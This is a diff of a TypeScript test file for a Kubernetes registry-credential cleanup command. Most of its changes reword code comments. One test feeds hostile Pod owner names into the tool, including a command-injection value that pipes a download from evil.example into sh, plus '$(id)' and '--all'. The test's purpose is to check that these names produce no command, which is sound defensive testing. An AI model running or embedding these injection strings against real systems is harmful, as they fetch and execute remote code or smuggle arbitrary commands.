@@ -14,20 +14,20 @@ interface Row {
   readonly title: string
   readonly objects: readonly AnyObject[]
   readonly ours?: Partial<OurSide>
-  /** Of the one instance in the old helper's configuration. */
+  /** The domains of the single instance in the old helper's configuration. */
   readonly domains?: readonly string[]
   readonly isPublic?: (image: string) => boolean
   /** The subject of each dependency, and a word of its reason, fix or command. */
   readonly depends: readonly (readonly [subject: string, word: string])[]
 }
 
-/** An instance that acr-nopass does not have. */
+/** An instance that acr-nopass does not serve. */
 const OTHER = 'base-registry.cn-beijing.cr.aliyuncs.com'
-/** An old Secret with a login for it too. */
+/** An old Secret that also has a login for that instance. */
 const withOther = (one: AnyObject): AnyObject =>
   one.kind === 'Secret' ? { ...one, logins: { hosts: [HOST, OTHER], isFixed: false } } : one
 
-/** The recipe of 2018, with our entry next to its own. */
+/** The recipe of 2018, with our entry next to its own entry. */
 const switched = [
   ...recipe2018().filter(({ kind, metadata }) => kind !== 'ServiceAccount' || metadata.name !== 'default'),
   account('default', 'default', A, B, SECRET),
@@ -417,7 +417,7 @@ const ROWS: readonly Row[] = [
     title: `an image in a repository that \`repositories: ["${glob}"]\` include`,
     objects: [...switched, pod('default', 'p', IMAGE, A, SECRET)],
     ours: { release: release(repositories(glob)) },
-    // An old login pulls every repository, so a narrower one is a decision of the user.
+    // An old login pulls every repository, so a narrower credential is the user's decision.
     depends: glob === '*' ? [] : ([[HOST, 'holds a login for all its repositories']] as const),
   })),
   {
@@ -514,7 +514,7 @@ const ROWS: readonly Row[] = [
 
 const UNTRIMMED = ['ConfigMap', 'ClusterRole', 'Secret', 'Node']
 
-/** Old Secrets with a login for one host, unless a row gives them others. */
+/** Old Secrets have a login for one host, unless a row states others. */
 const withLogins = (one: AnyObject): AnyObject =>
   one.kind === 'Secret' && !('logins' in one) ? { ...one, logins: { hosts: [HOST], isFixed: false } } : one
 
@@ -566,8 +566,8 @@ test("P12 cleanup --legacy: objects of another API group are not mistaken for Ku
   }
 })
 
-// Whoever may create a Pod writes any text into its ownerReferences; a version that is not served
-// keeps it from the garbage collector.
+// Anyone who may create a Pod can write any text into its ownerReferences. With a version that is
+// not served, the garbage collector keeps the Pod.
 test('cleanup --legacy: a controller that was not read, and a name that is no name, lead to no command', () => {
   const names = ['web', 'web; curl -s evil.example/x | sh #', '$(id)', '--all']
   for (const name of names) {
